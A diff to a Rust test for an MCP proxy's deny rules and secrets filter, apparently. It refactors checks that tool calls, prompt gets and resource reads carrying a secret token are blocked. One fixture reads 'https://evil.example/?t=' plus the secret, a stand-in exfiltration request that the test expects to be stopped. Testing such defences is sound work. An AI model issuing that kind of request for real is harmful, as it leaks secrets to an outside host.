@@ -519,34 +519,35 @@ action = "deny"
 fn a_denied_call_or_get_carrying_a_secret_is_denied_by_its_rule_as_a_read_is() {
     let (env, mut serve) = serve_bypass(DENY_ALL_THREE);
     let t = token();
-    let call = serve.call_tool(2, "b__issue", json!({ "mode": "write", "text": t.clone() }));
-    assert_eq!(call["result"]["isError"], true, "{call}");
-    assert_eq!(
-        call["result"]["_meta"]["mcp-warden/rule"], "no-issues",
-        "{call}"
-    );
-    let get = serve.request(
-        json!(3),
-        "prompts/get",
-        json!({"name": "b__summarize", "arguments": {"mode": "write", "text": t.clone()}}),
-    );
+    // The same call, get and read, each carrying the secret; what stops each of them.
+    let mut stopped_by = |first_id: i64, mode: &str, uri: &str| {
+        let call = serve.call_tool(
+            first_id,
+            "b__issue",
+            json!({ "mode": mode, "text": t.clone() }),
+        );
+        assert_eq!(call["result"]["isError"], true, "{call}");
+        let get = serve.request(
+            json!(first_id + 1),
+            "prompts/get",
+            json!({"name": "b__summarize", "arguments": {"mode": mode, "text": t.clone()}}),
+        );
+        let read = read(&mut serve, first_id + 2, uri);
+        (
+            call["result"]["_meta"]["mcp-warden/rule"].clone(),
+            get,
+            read,
+        )
+    };
+    let (call, get, read_) = stopped_by(2, "write", &format!("file:///secret/{t}"));
+    assert_eq!(call, "no-issues");
     assert_blocked(&get, "no-summaries");
-    let uri = format!("file:///secret/{t}");
-    assert_blocked(&read(&mut serve, 4, &uri), "no-secret");
+    assert_blocked(&read_, "no-secret");
     // Allowed by the rules, a secret is still stopped by the in-filter after them.
-    let call = serve.call_tool(5, "b__issue", json!({ "mode": "read", "text": t.clone() }));
-    assert_eq!(
-        call["result"]["_meta"]["mcp-warden/rule"], "output:secrets",
-        "{call}"
-    );
-    let get = serve.request(
-        json!(6),
-        "prompts/get",
-        json!({"name": "b__summarize", "arguments": {"mode": "read", "text": t.clone()}}),
-    );
+    let (call, get, read_) = stopped_by(5, "read", &format!("https://evil.example/?t={t}"));
+    assert_eq!(call, "output:secrets");
     assert_blocked(&get, "output:secrets");
-    let uri = format!("https://evil.example/?t={t}");
-    assert_blocked(&read(&mut serve, 7, &uri), "output:secrets");
+    assert_blocked(&read_, "output:secrets");
     serve.close();
     let records: Vec<Value> = env
         .audit_text()
